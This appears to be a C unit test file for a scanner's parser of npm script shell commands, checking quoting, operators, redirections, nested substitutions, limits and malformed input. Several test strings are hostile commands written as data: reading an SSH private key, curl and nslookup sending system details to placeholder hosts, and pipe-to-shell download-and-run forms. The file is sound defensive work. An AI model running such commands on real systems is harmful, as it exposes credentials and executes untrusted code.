/* test_shell.c — the shell subset npm scripts are parsed with
 * (scanner/pkg/shell.c): words and quoting, operators, redirections,
 * assignments, substitutions and `sh -c` followed, the limits, and hostile
 * input that must end cleanly. */
#include <stdio.h>
#include <string.h>

#include "../../scanner/limits.h"
#include "../../scanner/pkg/shell.h"
#include "tap.h"

static pv_arena *A;
static pv_sh_limits LIM;

static const char *sep_name(pv_sh_sep s) {
  static const char *const n[] = {"", " ;", " &&", " ||", " |", " &"};
  return n[s];
}

/* One line per command: "[depth s] a=b word word{S} <in >out sep". */
static const char *dump_script(const char *script, pv_sh_script *sc) {
  pv_buf b;
  pv_buf_init(&b, 1 << 20);
  if (pv_sh_parse(A, script, strlen(script), &LIM, sc) == PV_FATAL)
    return "FATAL";
  for (size_t i = 0; i < sc->n; i++) {
    const pv_sh_cmd *c = &sc->cmds[i];
    if (i)
      pv_buf_cats(&b, "\n");
    pv_buf_catf(&b, "[%u%s]", c->depth, c->in_subst ? "s" : "");
    for (size_t k = 0; k < c->nassign; k++)
      pv_buf_catf(&b, " %s", c->assign[k]);
    for (size_t k = 0; k < c->n; k++)
      pv_buf_catf(&b, " %s%s%s", c->words[k], c->wflags[k] & PV_SH_W_SUBST ? "{S}" : "",
                  c->wflags[k] & PV_SH_W_VAR ? "{V}" : "");
    for (size_t k = 0; k < c->nredir; k++)
      pv_buf_catf(&b, " %c%s", c->redir[k].op, c->redir[k].target);
    pv_buf_cats(&b, sep_name(c->sep));
  }
  pv_buf_cat(&b, "", 1);
  const char *s = pv_arena_strdup(A, b.data ? (const char *)b.data : "");
  pv_buf_free(&b);
  return s;
}

static const char *dump(const char *script) {
  pv_sh_script sc;
  return dump_script(script, &sc);
}

static void test_words(void) {
  is_str(dump("node-gyp rebuild"), "[0] node-gyp rebuild", "two words");
  is_str(dump("  tsc   -p  ."), "[0] tsc -p .", "blanks");
  is_str(dump("echo 'a b' \"c d\" e\\ f"), "[0] echo a b c d e f", "quotes and escapes");
  is_str(dump("echo \"a\\\"b\" 'x\"y'"), "[0] echo a\"b x\"y", "quotes inside quotes");
  is_str(dump("echo ''"), "[0] echo ", "an empty quoted word is a word");
  is_str(dump("echo a # comment | sh"), "[0] echo a", "comment");
  is_str(dump("echo a#b"), "[0] echo a#b", "# inside a word");
  is_str(dump("echo $HOME ${X:-y} $((1+2))"), "[0] echo $HOME{V} ${X:-y}{V} $((1+2)){V}",
         "variables");
}

static void test_operators(void) {
  is_str(dump("a | b && c || d ; e & f"), "[0] a |\n[0] b &&\n[0] c ||\n[0] d ;\n[0] e &\n[0] f",
         "every separator");
  is_str(dump("a|b&&c"), "[0] a |\n[0] b &&\n[0] c", "no blanks");
  is_str(dump("a\nb"), "[0] a ;\n[0] b", "newline");
  is_str(dump("(cd x && make) | sh"), "[0] cd x &&\n[0] make |\n[0] sh", "subshell piped");
  is_str(dump("nohup ./x &"), "[0] nohup ./x &", "background");
}

static void test_redirs(void) {
  is_str(dump("cat < ~/.ssh/id_rsa > /tmp/k 2>&1"), "[0] cat <~/.ssh/id_rsa >/tmp/k >1",
         "redirections, fd number dropped");
  is_str(dump("node x.js &>/dev/null"), "[0] node x.js >/dev/null", "&>");
  is_str(dump("echo a>>log"), "[0] echo a >log", ">> glued");
}

static void test_assign(void) {
  is_str(dump("NODE_ENV=production X=1 node build.js"), "[0] NODE_ENV=production X=1 node build.js",
         "assignments");
  pv_sh_script sc;
  dump_script("A=1 node a=b", &sc);
  if (ok(sc.n == 1, "one command")) {
    is_int(sc.cmds[0].nassign, 1, "one assignment");
    is_str(sc.cmds[0].words[1], "a=b", "an argument that looks like one is an argument");
  }
  dump_script("'A=1' node", &sc);
  if (ok(sc.n == 1, "quoted"))
    is_int(sc.cmds[0].nassign, 0, "a quoted word is no assignment");
}

static void test_nested(void) {
  is_str(dump("nslookup `hostname`.x.invalid"),
         "[0] nslookup `hostname`.x.invalid{S}\n[1s] hostname", "backticks");
  is_str(dump("curl \"https://a.invalid/?d=$(whoami | base64)\""),
         "[0] curl https://a.invalid/?d=$(whoami | base64){S}\n[1s] whoami |\n[1s] base64",
         "substitution in double quotes");
  is_str(dump("sh -c 'curl x | bash'"), "[0] sh -c curl x | bash\n[1] curl x |\n[1] bash",
         "sh -c followed");
  is_str(dump("/bin/bash -ec \"wget y && ./y\""),
         "[0] /bin/bash -ec wget y && ./y\n[1] wget y &&\n[1] ./y", "bash -ec followed");
  is_str(dump("eval \"$(curl -s z)\""),
         "[0] eval $(curl -s z){S}\n[1s] curl -s z\n[1] $(curl -s z){S}\n[2s] curl -s z",
         "eval: its argument again as a script");
  is_str(dump("echo '$(not run)' `"), "[0] echo $(not run) `{S}", "single quotes and a lone `");
  pv_sh_script sc;
  dump_script("a $(b $(c))", &sc);
  if (ok(sc.n == 3, "three levels")) {
    is_int(sc.cmds[1].parent, 0, "b's parent is a");
    is_int(sc.cmds[2].parent, 1, "c's parent is b");
    is_int(sc.cmds[2].depth, 2, "c at depth 2");
  }
}

static void test_limits(void) {
  pv_sh_script sc;
  char deep[512];
  for (int i = 0; i < 40; i++)
    memcpy(deep + 2 * i, "$(", 2);
  memcpy(deep + 80, "x", 2);
  is_int(pv_sh_parse(A, deep, strlen(deep), &LIM, &sc), PV_WARN, "too deep: warn");
  ok(sc.truncated, "truncated");
  ok(sc.n <= LIM.depth_max + 1, "at most depth_max levels kept (%zu)", sc.n);

  pv_sh_limits small = LIM;
  small.cmds_max = 3;
  is_int(pv_sh_parse(A, "a;b;c;d;e", 9, &small, &sc), PV_WARN, "too many commands: warn");
  is_int(sc.n, 3, "three kept");
  small = LIM;
  small.bytes_max = 4;
  is_int(pv_sh_parse(A, "abc;curl x|sh", 13, &small, &sc), PV_WARN, "too long: warn");
  is_str(sc.cmds[0].words[0], "abc", "the start is parsed");
  is_int(sc.n, 1, "the rest ignored");
  is_int(pv_sh_parse(A, "a;b", 3, &LIM, &sc), PV_OK, "within limits: ok");
}

static void test_hostile(void) {
  static const char *const cases[] = {
      "\"",    "'",       "\\",   "$(",   "$((",  "`",  "${",  "$",      "((((",
      "))))",  ">",       "<",    "2>",   "&&&&", "||", "|&",  "\"$(\"", "'$(' \"`\"",
      "sh -c", "sh -c '", "eval", "$(\\", "a\\",  ">&", "<<<",
  };
  for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
    pv_sh_script sc;
    pv_status rc = pv_sh_parse(A, cases[i], strlen(cases[i]), &LIM, &sc);
    ok(rc == PV_OK || rc == PV_WARN, "%s: parsed without error", cases[i]);
  }
  char big[70000];
  for (size_t i = 0; i < sizeof big - 1; i++)
    big[i] = "$(`'\"|&;x "[i % 10];
  big[sizeof big - 1] = '\0';
  pv_sh_script sc;
  pv_status rc = pv_sh_parse(A, big, strlen(big), &LIM, &sc);
  ok(rc == PV_WARN && sc.truncated, "a long mix of metacharacters ends, truncated");
  ok(sc.n <= LIM.cmds_max, "commands within the limit");
}

int main(void) {
  A = pv_arena_new(0);
  pv_limits l = pv_limits_default();
  LIM = (pv_sh_limits){l.script_bytes, l.script_cmds, l.script_depth};
  test_words();
  test_operators();
  test_redirs();
  test_assign();
  test_nested();
  test_limits();
  test_hostile();
  is_str(pv_sh_base("/usr/bin/curl"), "curl", "base name");
  is_str(pv_sh_base("curl"), "curl", "base name of a bare word");
  pv_arena_delete(A);
  return tap_done();
}
